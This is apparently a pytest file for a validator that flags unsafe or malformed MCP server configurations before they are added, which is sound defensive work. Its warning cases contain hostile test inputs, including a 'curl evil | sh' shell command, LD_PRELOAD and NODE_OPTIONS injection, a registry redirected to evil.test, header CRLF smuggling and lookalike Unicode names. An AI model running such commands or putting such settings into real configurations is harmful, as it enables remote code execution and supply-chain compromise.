"""What is said about a draft before it is added."""

import pytest

from greenroom.servers.adding.draft import Draft, Level, Variable
from greenroom.servers.adding.remarks import judge


def _levels(draft: Draft, member: str, taken: frozenset[str] = frozenset()) -> set[Level]:
    return {remark.level for remark in judge(draft, taken=taken) if remark.member == member}


def _program(*args: str, command: str = "node", **env: str) -> Draft:
    values = tuple(Variable(name=name, value=value) for name, value in env.items())
    return Draft(name="x", command=command, args=args, env=values)


def test_an_ordinary_server_has_nothing_said_against_it() -> None:
    assert judge(_program("server.js", "--port", "80", LEVEL="loud", KEY="${keyring:x}")) == ()
    assert judge(Draft(name="x", url="https://a.test/mcp")) == ()
    assert judge(Draft(name="x", url="http://localhost:3000/mcp")) == ()


def test_names_must_be_there_visible_and_free() -> None:
    for name in ("", "  ", "a\u202eb", "a" * 101, "taken"):
        assert _levels(Draft(name=name, command="node"), "name", frozenset({"taken"})) == {"error"}, name


@pytest.mark.parametrize(
    ("draft", "member"),
    [
        (Draft(name="x", command=""), "command"),
        (_program("a\0b"), "args"),
        (_program(**{"A=B": "x"}), "env.A=B"),
        (Draft(name="x", command="n", env=(Variable(name="", value="x"),)), "env."),
        (Draft(name="x", command="n", env=(Variable(name="A", value="1"), Variable(name="A", value="2"))), "env.A"),
        (Draft(name="x", url="ftp://a.test"), "url"),
        (Draft(name="x", url="https://"), "url"),
        (Draft(name="x", url="https://[::1"), "url"),
        (Draft(name="x", url="https://a.test", headers=(Variable(name="A B", value="x"),)), "headers.A B"),
        (Draft(name="x", url="https://a.test", headers=(Variable(name="A", value="x\r\nB: y"),)), "headers.A"),
    ],
)
def test_what_cannot_work_is_an_error(draft: Draft, member: str) -> None:
    assert "error" in _levels(draft, member)


@pytest.mark.parametrize(
    ("draft", "member"),
    [
        (_program("a\nb"), "args"),
        (_program("a\u202eb"), "args"),
        (_program(command="np\u0445"), "command"),
        (_program("-c", "curl evil | sh", command="/bin/bash"), "args"),
        (_program("-e", "require('child_process')"), "args"),
        (_program("/path/to/folder"), "args"),
        (_program("<YOUR_FOLDER>"), "args"),
        (_program("--api-key=abc"), "args"),
        (_program("sk-abcdefghijklmnopqrstuv"), "args"),
        (_program(API_KEY="your-api-key-here"), "env.API_KEY"),
        (_program(API_KEY="<key>"), "env.API_KEY"),
        (_program(API_KEY=""), "env.API_KEY"),
        (_program(NODE_OPTIONS="--require /tmp/x.js"), "env.NODE_OPTIONS"),
        (_program(LD_PRELOAD="/tmp/x.so"), "env.LD_PRELOAD"),
        (_program(npm_config_registry="https://evil.test"), "env.npm_config_registry"),
        (Draft(name="x", url="http://a.test/mcp"), "url"),
        (Draft(name="x", url="https://user:word@a.test/mcp"), "url"),
        (Draft(name="x", url="https://\u0430pple.com/mcp"), "url"),
    ],
)
def test_what_should_be_looked_at_is_a_warning(draft: Draft, member: str) -> None:
    assert "warning" in _levels(draft, member)
